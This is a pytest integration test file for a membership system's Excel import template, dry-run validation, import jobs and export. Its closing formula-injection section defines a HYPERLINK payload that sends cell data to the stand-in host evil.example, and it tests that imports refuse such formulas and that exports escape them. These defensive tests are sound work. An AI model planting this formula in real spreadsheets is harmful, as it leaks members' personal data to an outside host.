"""Excel: the import template, the dry run's report by row and column, the import job on the
checked file (batched creates, conditional updates), limits, and the export (round trip)."""

from __future__ import annotations

import io
import random
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook

from chalicelib.auth.models import AccountModel
from chalicelib.auth.passwords import verify_password
from chalicelib.members import excel, imports
from chalicelib.members.models import AuditModel, MemberModel
from chalicelib.members.schema import FIELDS
from devstack.fake import person
from tests.integration.export_job import export_xlsx

XLSX = excel.XLSX


def template_bytes(http, staff) -> bytes:
    r = http.get("/members/import-template", staff, accept=XLSX)
    assert r.status == 200
    return r.raw


def fill(template: bytes, rows: list[dict[str, object]]) -> bytes:
    """Write rows into the template's data sheet by header label (as staff would in Excel)."""
    wb = load_workbook(io.BytesIO(template))
    ws = wb[excel.DATA_SHEET]
    cols = {str(c.value).rstrip("*"): c.column for c in ws[1]}
    labels = {f.key: f.label for f in FIELDS}
    for i, row in enumerate(rows, start=2):
        for key, value in row.items():
            ws.cell(row=i, column=cols[labels[key]], value=value)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def fake_rows(n: int, seed: int = 1, association: str = "110000") -> list[dict[str, object]]:
    rng = random.Random(seed)
    rows = []
    for _ in range(n):
        p = person(rng, association)
        p.pop("association")
        rows.append(p)
    return rows


def upload(http, staff, data: bytes, mode: str = "dry_run"):
    return http.post("/members/imports", staff, data, mode=mode)


def import_by_job(http, staff, data: bytes) -> dict:
    """The import as the page runs it: the dry run keeps the file, an import job applies it.
    Returns the finished job with `created`: the new members' [row, member_no, name]."""
    import csv

    from chalicelib import bootstrap
    from tests.integration.jobs.conftest import Worker, fetch

    dry = upload(http, staff, data)
    assert dry.status == 200 and dry.body["upload_id"], dry.body
    started = http.post("/jobs", staff, {"kind": "import", "upload_id": dry.body["upload_id"]})
    assert started.status == 202, started.body
    Worker(bootstrap.deps()).drain()
    job = http.get(f"/jobs/{started.body['job_id']}", staff).body
    assert job["status"] == "done", job
    link = http.get(f"/jobs/{job['job_id']}/result", staff).body
    job["created"] = list(csv.reader(io.StringIO(fetch(link["url"]).decode("utf-8-sig"))))[1:]
    return job


def test_template_has_chinese_headers_dropdowns_text_format_and_instructions(http, staff):
    r = http.get("/members/import-template", staff, accept=XLSX)
    assert r.headers["Content-Type"] == XLSX
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E4%BC%9A%E5%91%98" in r.headers["Content-Disposition"]
    wb = load_workbook(io.BytesIO(r.raw))
    assert wb.sheetnames == [excel.DATA_SHEET, excel.HELP_SHEET, excel.OPTIONS_SHEET]
    ws = wb[excel.DATA_SHEET]
    headers = [c.value for c in ws[1]]
    importable = [f for f in FIELDS if f.importable and f.key != "association"]
    assert headers == [f"{f.label}*" if f.required else f.label for f in importable]
    assert "职务领域*" in headers and "职务层级*" in headers and "姓名*" in headers and "QQ号" in headers
    assert "所属协会*" not in headers and "会员证书编号" not in headers
    options = wb[excel.OPTIONS_SHEET]
    assert options.sheet_state == "hidden"
    lists = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    selects = [f for f in importable if f.type == "select"]
    assert len(lists) == len(selects)
    for f in selects:
        col = headers.index(f"{f.label}*" if f.required else f.label) + 1
        from openpyxl.utils import get_column_letter
        letter = get_column_letter(col)
        dv = next(d for d in lists if str(d.sqref).startswith(f"{letter}2:"))
        sheet_ref, cells = dv.formula1.split("!")
        assert sheet_ref.strip("'") == excel.OPTIONS_SHEET
        values = [c.value for row in options[cells.replace("$", "")] for c in row]
        assert values == list(f.options), f.key
    for f in importable:
        letter = ws.cell(row=1, column=headers.index(f"{f.label}*" if f.required else f.label) + 1).column_letter
        assert ws.column_dimensions[letter].number_format == "@", f.key
    help_text = " ".join(str(c.value) for row in wb[excel.HELP_SHEET].iter_rows() for c in row if c.value)
    assert "填写说明" in help_text and "YYYY-MM-DD" in help_text and "证件类型" in help_text


def test_dry_run_reports_every_problem_by_row_and_column(http, staff, make_member):
    other = make_member("310000")
    good = fake_rows(3)
    bad_email = {**good[1], "email": "nope"}
    bad_option = {**good[2], "job_field": "宇航员", "postal_code": "1234"}
    no_id = {**fake_rows(1, seed=9)[0], "id_number": None}
    dup = dict(good[0])
    other_assoc = {**fake_rows(1, seed=5)[0], "id_number": other.profile["id_number"],
                   "gender": other.profile["gender"], "birth_date": other.profile["birth_date"]}
    bad_id = {**fake_rows(1, seed=6)[0], "id_number": "110101199001011230"}  # wrong check digit
    data = fill(template_bytes(http, staff), [good[0], bad_email, bad_option, no_id, dup, other_assoc, bad_id])
    r = upload(http, staff, data)
    assert r.status == 200, r.body
    body = r.body
    assert body["ok"] is False and body["committed"] is False and body["rows"] == 7
    assert body["create"] == 1  # only the first row is clean
    found = {(e["row"], e["column"]): e for e in body["errors"]}
    assert found[(3, "电子邮箱")]["message"] == "电子邮箱格式不正确"
    assert found[(3, "电子邮箱")]["cell"].endswith("3")
    assert found[(4, "职务领域")]["message"] == "职务领域请从下拉选项中选择"
    assert (4, "邮政编码") in found
    assert "必填" in found[(5, "证件号码")]["message"]
    assert found[(6, "证件号码")]["message"] == "与第2行的证件号码重复"
    assert "其他协会" in found[(7, "证件号码")]["message"]
    assert "居民身份证号码无效" in found[(8, "证件号码")]["message"]
    assert [e["row"] for e in body["errors"]] == sorted(e["row"] for e in body["errors"])
    assert [m.member_no for m in MemberModel.scan(MemberModel.association.exists())] == [other.member_no]  # a dry run writes nothing


def test_every_problem_of_a_row_is_reported_at_once(http, staff):
    rows = fake_rows(3, seed=11)
    bad_id_and_more = {**rows[0], "id_number": "110101199001011230", "email": "nope", "postal_code": "12"}
    dup_with_more = {**rows[1], "id_number": rows[0]["id_number"], "email": "also-bad"}
    bad_id_bad_birth = {**rows[2], "id_number": "110101199001011231", "birth_date": "1990-13-45"}
    data = fill(template_bytes(http, staff), [rows[0], bad_id_and_more, dup_with_more, bad_id_bad_birth])
    body = upload(http, staff, data).body
    by_row: dict[int, set[str]] = {}
    for e in body["errors"]:
        by_row.setdefault(e["row"], set()).add(e["column"])
    assert by_row[3] >= {"证件号码", "电子邮箱", "邮政编码"}  # the check digit together with the rest
    found = {(e["row"], e["column"]): e["message"] for e in body["errors"]}
    assert "居民身份证号码无效" in found[(3, "证件号码")]
    assert found[(4, "证件号码")] == "与第2行的证件号码重复" and (4, "电子邮箱") in found  # not hidden
    assert "居民身份证号码无效" in found[(5, "证件号码")] and (5, "出生日期") in found


def test_the_import_creates_updates_and_leaves_unchanged_rows_alone(http, staff, make_member):
    existing = make_member("110000")
    same = make_member("110000")
    rows = fake_rows(4)
    update = {k: existing.profile[k] for k in ("name", "id_type", "id_number")}
    update["employer"] = "导入更新的单位"
    untouched = {k: same.profile[k] for k in ("name", "id_type", "id_number", "email")}
    data = fill(template_bytes(http, staff), rows + [update, untouched])
    dry = upload(http, staff, data)
    assert dry.body["ok"] and (dry.body["create"], dry.body["update"], dry.body["unchanged"]) == (4, 1, 1)
    assert len(list(MemberModel.scan(MemberModel.association.exists()))) == 2  # the dry run wrote nothing
    job = import_by_job(http, staff, data)
    assert (job["total"], job["done"], job["failed"]) == (6, 6, 0)
    new = job["created"]
    assert [int(n[0]) for n in new] == [2, 3, 4, 5]
    assert [n[2] for n in new] == [row["name"] for row in rows]
    numbers = [n[1] for n in new]
    assert numbers == sorted(numbers) and all(n.startswith("110000") for n in numbers)
    for n, row in zip(numbers, rows):
        m = MemberModel.get(n)
        assert m.version == 1 and m.association == "110000" and m.complete is True
        assert m.id_key == f"居民身份证#{row['id_number']}" and m.photo_status == "none" and m.status == "active"
        account = AccountModel.get(f"member:{n}")
        assert account.must_change_password and account.password_hash == imports.NO_PASSWORD
        assert not verify_password(account.password_hash, "")
        (entry,) = AuditModel.query(n)
        assert entry.action == "import" and entry.detail.as_dict()["kind"] == "create"
    updated = MemberModel.get(existing.member_no)
    assert updated.profile["employer"] == "导入更新的单位" and updated.version == 2
    assert updated.profile["email"] == existing.profile["email"]  # blank cells leave values alone
    (entry,) = [e for e in AuditModel.query(existing.member_no) if e.action == "import"]
    assert [dict(c)["field"] for c in entry.changes] == ["employer"]
    assert MemberModel.get(same.member_no).version == 1
    # listed like any other member, and the import is idempotent
    listed = {x["member_no"] for x in http.get("/members", staff, limit=200).body["items"]}
    assert set(numbers) <= listed
    again = import_by_job(http, staff, data)
    assert (again["created"], again["failed"]) == ([], 0)
    assert len(list(MemberModel.scan(MemberModel.association.exists()))) == 6
    assert MemberModel.get(existing.member_no).version == 2


def test_real_excel_dates_and_numbers_are_read(http, staff):
    row = fake_rows(1)[0]
    row["birth_date"] = datetime.fromisoformat(row["birth_date"])
    row["approval_date"] = datetime(2015, 6, 30)
    row["mobile"] = int(row["mobile"])
    row["postal_code"] = 100000.0
    data = fill(template_bytes(http, staff), [row])
    m = MemberModel.get(import_by_job(http, staff, data)["created"][0][1])
    assert m.profile["approval_date"] == "2015-06-30" and m.profile["postal_code"] == "100000"
    assert m.profile["mobile"] == str(row["mobile"])


def test_an_id_number_stored_as_a_number_is_reported(http, staff):
    row = fake_rows(1)[0]
    row["id_number"] = float(row["id_number"][:17] + "1")
    r = upload(http, staff, fill(template_bytes(http, staff), [row]))
    assert r.body["ok"] is False
    assert "文本格式" in r.body["errors"][0]["message"] and r.body["errors"][0]["column"] == "证件号码"


def test_any_file_with_the_headers_works_in_any_order_with_extra_columns(http, staff):
    wb = Workbook()
    ws = wb.active
    ws.append(["说明:北京注协 2026 年第一批"])
    ws.append(["备注", "证件号码", "姓名*", "证件类型"])
    ws.append(["第一行", "11010519491231002X", "无模板", "居民身份证"])
    buf = io.BytesIO()
    wb.save(buf)
    r = upload(http, staff, buf.getvalue())
    assert r.body["ok"] and r.body["create"] == 1 and r.body["ignored_columns"] == ["备注"]


@pytest.mark.parametrize("content,code", [
    (b"not a spreadsheet", "IMPORT_INVALID_FILE"),
    (b"", "IMPORT_INVALID_FILE"),
])
def test_unreadable_files_are_refused(http, staff, content, code):
    r = upload(http, staff, content)
    assert r.status == 422 and r.body["code"] == code


def test_a_file_without_the_id_columns_is_refused(http, staff):
    wb = Workbook()
    wb.active.append(["姓名", "证件号码"])
    buf = io.BytesIO()
    wb.save(buf)
    r = upload(http, staff, buf.getvalue())
    assert r.status == 422 and "证件类型" in r.body["message"]


def test_size_and_row_limits(http, staff, monkeypatch):
    r = upload(http, staff, b"PK" + b"\0" * (imports.MAX_BYTES + 1))
    assert r.status == 413 and r.body["code"] == "IMPORT_TOO_LARGE"
    monkeypatch.setattr(imports, "JOB_MAX_ROWS", 3)
    r = upload(http, staff, fill(template_bytes(http, staff), fake_rows(4)))
    assert r.status == 413 and r.body["code"] == "IMPORT_TOO_LARGE"
    assert upload(http, staff, b"x", mode="everything").status == 422


def test_large_files_match_ids_with_one_read_of_the_index(http, staff, make_member, monkeypatch):
    monkeypatch.setattr(imports, "QUERY_MATCH_LIMIT", 2)
    existing = make_member("110000")
    elsewhere = make_member("310000")
    rows = fake_rows(4) + [{**{k: existing.profile[k] for k in ("name", "id_type", "id_number")}, "qq": "123456"},
                           {k: elsewhere.profile[k] for k in ("name", "id_type", "id_number")}]
    r = upload(http, staff, fill(template_bytes(http, staff), rows))
    assert (r.body["create"], r.body["update"]) == (4, 1)
    assert [e["row"] for e in r.body["errors"]] == [7] and "其他协会" in r.body["errors"][0]["message"]


def test_round_trip_template_import_export(http, aws, staff, make_member):
    make_member("310000")
    rows = fake_rows(6, seed=3)
    data = fill(template_bytes(http, staff), rows)
    assert len(import_by_job(http, staff, data)["created"]) == 6
    workbook = export_xlsx(http.client, aws, staff)
    wb = load_workbook(io.BytesIO(workbook))
    ws = wb.worksheets[0]
    assert "内部资料" in ws.title and wb.properties.subject == "内部资料"
    header = [c.value for c in ws[1]]
    table = [dict(zip(header, [c.value for c in row])) for row in ws.iter_rows(min_row=2)]
    assert len(table) == 6  # only the caller's association
    by_id = {t["证件号码"]: t for t in table}
    for row in rows:
        exported = by_id[row["id_number"]]  # ID numbers in full: the association's own data
        assert exported["姓名"] == row["name"] and exported["职务领域"] == row["job_field"]
        assert exported["所属协会"] == "北京注册会计师协会" and exported["会籍状态"] == "正常"
        assert exported["会员证书编号"].startswith("110000")
    notes = " ".join(str(c.value) for row in wb[excel.HELP_SHEET].iter_rows() for c in row if c.value)
    assert "内部资料" in notes and "bj_staff" in notes
    # the export imports back as "nothing to change"
    again = upload(http, staff, workbook)
    assert again.body["ok"] and again.body["unchanged"] == 6 and again.body["create"] == 0
    assert "会员证书编号" in again.body["ignored_columns"] and "所属协会" in again.body["ignored_columns"]


def test_export_uses_the_list_filters(http, aws, staff, make_member):
    a = make_member("110000", complete=False)
    make_member("110000")
    ws = load_workbook(io.BytesIO(export_xlsx(http.client, aws, staff, {"complete": "false"}))).worksheets[0]
    assert [row[0].value for row in ws.iter_rows(min_row=2)] == [a.member_no]
    r = http.post("/jobs", staff, {"kind": "export", "filter": {"status": "bogus"}})
    assert r.status == 400 and r.body["code"] == "INVALID_FILTER"


def test_staff_only(http, persona, make_member):
    m = make_member("110000")
    me = persona("member", member_no=m.member_no)
    assert http.get("/members/import-template", me, accept=XLSX).status == 403
    assert http.post("/jobs", me, {"kind": "export"}).status == 403
    assert http.post("/members/imports", me, b"x").status == 403


# -- formula (CSV) injection ------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2&D2,"点击查看")'


def _text_cells(template: bytes, rows: list[dict[str, object]]) -> bytes:
    """Like `fill`, but every value is a string cell, as text typed into the text-formatted template."""
    wb = load_workbook(io.BytesIO(template))
    ws = wb[excel.DATA_SHEET]
    cols = {str(c.value).rstrip("*"): c.column for c in ws[1]}
    labels = {f.key: f.label for f in FIELDS}
    for i, row in enumerate(rows, start=2):
        for key, value in row.items():
            cell = ws.cell(row=i, column=cols[labels[key]], value=value)
            cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_member_cannot_store_a_formula_and_export_cells_are_inert_text(http, aws, staff, persona, make_member):
    m = make_member("110000")
    me = persona("member", member_no=m.member_no)
    r = http.patch("/me", me, {"version": 1, "changes": {"employer": HYPERLINK}})
    assert r.status == 422, r.body
    assert "公式" in str(r.body)
    # Whatever is stored already (older data, other channels) is exported as inert text.
    for key, value in (("employer", HYPERLINK), ("address", "\t=1+1"), ("office_phone", "+86 010-88888888"),
                       ("hukou_location", "-")):
        stored = MemberModel.get(m.member_no)
        profile = stored.profile.as_dict() if hasattr(stored.profile, "as_dict") else dict(stored.profile)
        stored.profile = {**profile, key: value}
        stored.save()
    exported = export_xlsx(http.client, aws, staff)
    ws = load_workbook(io.BytesIO(exported)).worksheets[0]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    cells = [c for c in ws[2]]
    assert all(c.data_type != "f" for c in cells)
    assert row["工作单位"].value == "'" + HYPERLINK and row["工作单位"].data_type == "s"
    assert row["通讯地址"].value == "'\t=1+1"
    assert row["办公电话"].value == "+86 010-88888888"  # inert: kept readable in a string cell
    assert row["户口所在地"].value == "-"
    # The export comes back through import with its escapes undone: the stored formula in
    # 工作单位 is unchanged (an import validates what it changes), while the tab-led address
    # is trimmed on import, so it is a change, and refused like any new formula text.
    back = upload(http, staff, exported)
    assert [(e["column"], "公式" in e["message"]) for e in back.body["errors"]] == [("通讯地址", True)]


def test_import_refuses_formula_text_per_cell_and_keeps_phone_numbers(http, staff):
    rows = fake_rows(3, seed=21)
    rows[0]["employer"] = "=1+1"
    rows[1]["address"] = "\t=1+1"
    rows[1]["employer"] = "@SUM(A1:A9)"
    rows[2]["office_phone"] = "+86 010-88888888"
    rows[2]["employer"] = "-"
    r = upload(http, staff, _text_cells(template_bytes(http, staff), rows))
    assert r.status == 200, r.body
    found = {(e["row"], e["column"]): e["message"] for e in r.body["errors"]}
    assert set(found) == {(2, "工作单位"), (3, "通讯地址"), (3, "工作单位")}
    assert all("不能以 = + - @ 开头" in message for message in found.values())
    assert r.body["create"] == 1


def test_bulk_report_csv_escapes_formulas_behind_spaces():
    from chalicelib.cert.bulk import _excel_safe

    assert _excel_safe(" =1+1") == "' =1+1"
    assert _excel_safe("\t=1+1") == "'\t=1+1"
    assert _excel_safe("+86 10 8888 8888") == "'+86 10 8888 8888"  # CSV has no cell types
    assert _excel_safe("张三") == "张三"
